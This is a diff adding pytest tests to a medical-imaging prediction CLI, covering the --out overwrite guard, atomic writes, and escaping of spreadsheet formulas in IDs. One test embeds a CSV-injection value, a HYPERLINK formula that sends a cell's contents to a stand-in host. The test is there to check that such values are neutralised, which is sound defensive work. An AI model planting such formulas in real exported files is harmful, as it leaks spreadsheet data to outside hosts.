@@ -19,6 +19,7 @@ from dmfn.client import predict as P
 from dmfn.client.io import write_dicom_series, write_nifti_mask, write_nifti_volume
 from dmfn.client.sdk import Prediction
 from dmfn.contract import schema as S
+from dmfn.contract.predictions import Provenance
 from dmfn.predict import main as predict_main
 
 SPACING = (2.5, 0.7, 0.8)
@@ -42,7 +43,11 @@ class FakeClient:
 
     @property
     def contract(self) -> object:
-        return type("Contract", (), {"ctc_features": (CTC,)})()
+        return type(
+            "Contract",
+            (),
+            {"ctc_features": (CTC,), "class_names": ("thymoma",), "provenance": Provenance()},
+        )()
 
     def predict_many(self, studies: list, concurrency: int, return_exceptions: bool) -> list:
         FakeClient.studies += list(studies)
@@ -220,3 +225,105 @@ def test_manifest_rows_keep_their_line(
     assert predict_main(["--manifest", str(manifest)]) == P.EXIT_USAGE
     err = capsys.readouterr().err
     assert f"manifest {manifest} line 2: NIfTI file {tmp_path / 'broken.nii.gz'}" in err
+
+
+# --------------------------------------------------------------------------- --out
+@pytest.fixture
+def one_study(tmp_path: Path) -> list[str]:
+    """The arguments of one NIfTI study."""
+    image = write_nifti_volume(_hu(0), SPACING, tmp_path / "ct.nii.gz")
+    mask = write_nifti_mask(_mask(), SPACING, tmp_path / "mask.nii.gz")
+    return [str(image), "--mask", str(mask), *_clinical()]
+
+
+def _leftovers(folder: Path) -> list[str]:
+    """Temporary files a write left behind."""
+    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))
+
+
+def test_out_is_not_replaced_without_overwrite(
+    fake_server: type[FakeClient],
+    one_study: list[str],
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    out = tmp_path / "predictions.csv"
+    out.write_text("earlier results\n")
+    assert predict_main([*one_study, "--out", str(out)]) == P.EXIT_USAGE
+    last = capsys.readouterr().err.strip().splitlines()[-1]
+    assert last == f"dmfn predict: error: --out: {out} exists; pass --overwrite to replace it"
+    assert out.read_text() == "earlier results\n" and fake_server.studies == []  # no work done
+    assert predict_main([*one_study, "--out", str(out), "--overwrite"]) == P.EXIT_OK
+    assert out.read_text().startswith("level,patient_id,image_id,") and not _leftovers(tmp_path)
+
+
+def test_out_that_appears_while_predicting_is_not_replaced(
+    fake_server: type[FakeClient],
+    one_study: list[str],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    out = tmp_path / "predictions.csv"
+    answer = FakeClient.predict_many
+
+    def predict_many(self: FakeClient, *args: object, **kwargs: object) -> list:
+        out.write_text("another run's results\n")
+        return answer(self, *args, **kwargs)
+
+    monkeypatch.setattr(FakeClient, "predict_many", predict_many)
+    assert predict_main([*one_study, "--out", str(out)]) == P.EXIT_USAGE
+    err = capsys.readouterr().err
+    assert f"dmfn predict: --out: {out} exists; pass --overwrite to replace it" in err
+    assert out.read_text() == "another run's results\n" and not _leftovers(tmp_path)
+
+
+def test_a_failed_write_leaves_the_earlier_file_whole(
+    fake_server: type[FakeClient],
+    one_study: list[str],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    from dmfn.contract import predictions
+
+    out = tmp_path / "predictions.csv"
+    out.write_text("earlier results\n")
+    calls = iter(range(100))
+
+    def failing(text: str) -> str:
+        if next(calls) == 7:  # after the header and part of a row are written
+            raise OSError(28, "No space left on device")
+        return text
+
+    monkeypatch.setattr(predictions, "escape_cell", failing)
+    with pytest.raises(OSError, match="No space left"):
+        predict_main([*one_study, "--out", str(out), "--overwrite"])
+    assert out.read_text() == "earlier results\n" and not _leftovers(tmp_path)
+
+
+def test_out_ids_that_look_like_formulas_are_written_as_text(
+    fake_server: type[FakeClient], one_study: list[str], tmp_path: Path
+) -> None:
+    """An image_id of =HYPERLINK(...) must not become a live formula in a spreadsheet."""
+    import csv
+
+    from dmfn.contract.predictions import read_predictions
+
+    hostile = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
+    manifest = tmp_path / "studies.csv"
+    manifest.write_text(
+        f"image_id,patient_id,image_path,mask_path,{CTC},age_years,sex,location\n"
+        f'"{hostile.replace(chr(34), chr(34) * 2)}",@SUM(1),ct.nii.gz,mask.nii.gz,12.5,54,F,'
+        "anterior\n"
+    )
+    out = tmp_path / "predictions.csv"
+    assert predict_main(["--manifest", str(manifest), "--out", str(out)]) == P.EXIT_OK
+    with out.open(newline="") as handle:
+        image, patient = list(csv.DictReader(handle))
+    assert image["image_id"] == "'" + hostile and image["patient_id"] == "'@SUM(1)"
+    assert patient["patient_id"] == "'@SUM(1)" and image["malignant_prob"] == "1"
+    table = read_predictions(out)
+    assert [(r.patient_id, r.image_id) for r in table.rows] == [
+        ("@SUM(1)", hostile),
+        ("@SUM(1)", ""),
+    ]
